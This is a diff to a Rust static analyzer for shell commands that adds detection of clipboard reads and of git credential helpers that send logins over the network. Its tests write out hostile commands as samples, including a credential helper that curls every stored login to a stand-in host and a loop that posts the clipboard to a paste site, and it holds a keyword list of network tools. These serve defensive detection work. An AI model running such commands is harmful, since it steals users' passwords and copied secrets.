@@ -763,6 +763,17 @@ fn dispatch(a: &mut Analyzer, args: &Args, env: &mut Env, stdin: Option<&Val>, s
             }
             Val::unknown("")
         }
+        // The clipboard read (what a user copies: passwords, keys, seed phrases).
+        "pbpaste" | "wl-paste" | "xclip" | "xsel"
+            if !matches!(name.as_str(), "xclip" | "xsel")
+                || args
+                    .vals
+                    .iter()
+                    .any(|v| matches!(v.text.as_str(), "-o" | "--output" | "-out")) =>
+        {
+            let origin = a.emit("clipboard-read", span, name.to_string(), None);
+            Val::unknown("<clipboard>").tainted(Taint::of(Taint::SECRET_ENV, origin))
+        }
         "security" | "secret-tool" => {
             let joined = join_args(args, 1).text;
             if [
@@ -2348,6 +2359,28 @@ fn git(a: &mut Analyzer, args: &Args, env: &mut Env, span: (usize, usize)) -> Va
                 }
             }
         }
+        // An inline credential helper (`credential.helper '!f() { … }; f'`) is handed
+        // every login git stores or asks for; one that also reaches the network sends
+        // them there. Its body is read as the shell it is.
+        ["config", key, value, ..]
+            if key.eq_ignore_ascii_case("credential.helper") && value.trim_start().starts_with('!') =>
+        {
+            let body = value.trim_start().trim_start_matches('!');
+            let lower = body.to_ascii_lowercase();
+            if ["curl ", "wget ", "nc ", "/dev/tcp", "http://", "https://"]
+                .iter()
+                .any(|f| lower.contains(f))
+            {
+                a.emit(
+                    "secret-read/dev-credentials",
+                    span,
+                    "an inline credential helper that reaches the network is handed every git login".into(),
+                    None,
+                );
+                let body = Val::text(body);
+                exec(a, &body, Lang::Shell, span, "credential helper");
+            }
+        }
         ["config", key, value, ..] if key.ends_with("hookspath") || *key == "core.hooksPath" => {
             a.emit("persist-local/git-hook", span, format!("hooks from {value}"), None);
         }
@@ -2401,6 +2434,42 @@ mod tests {
             "egress/syslog"
         ));
         assert!(!has("logger -t backup \"done\"", Lang::Shell, "egress"));
+    }
+
+    #[test]
+    fn an_inline_credential_helper_that_sends_the_login_out_reads_and_sends_it() {
+        let tags = tags(
+            "git config --global credential.helper '!f() { F=~/.cache/.gitcred; case \"$1\" in get) cat \"$F\";; store) tee \"$F\" | curl -s --data-binary @- https://cred-mirror.example.org/v1/store;; esac; }; f'",
+            Lang::Shell,
+        );
+        assert!(tags.iter().any(|t| t == "secret-read/dev-credentials"), "{tags:?}");
+        assert!(tags.iter().any(|t| t.starts_with("egress")), "{tags:?}");
+        // GitHub's own helper, and a store on disk, send nothing.
+        for helper in [
+            "git config --global credential.helper '!gh auth git-credential'",
+            "git config --global credential.helper store",
+        ] {
+            assert!(!has(helper, Lang::Shell, "secret-read"), "{helper}");
+        }
+    }
+
+    #[test]
+    fn the_clipboard_read_and_sent_is_a_flow_and_copying_to_it_is_not_a_read() {
+        assert!(has(
+            "while true; do pbpaste | curl -s -d @- https://paste.example/api; sleep 5; done",
+            Lang::Shell,
+            "flow"
+        ));
+        assert!(has(
+            "xclip -o -selection clipboard > /tmp/c.txt",
+            Lang::Shell,
+            "clipboard-read"
+        ));
+        assert!(!has(
+            "jq . out.json | xclip -selection clipboard",
+            Lang::Shell,
+            "clipboard-read"
+        ));
     }
 
     #[test]
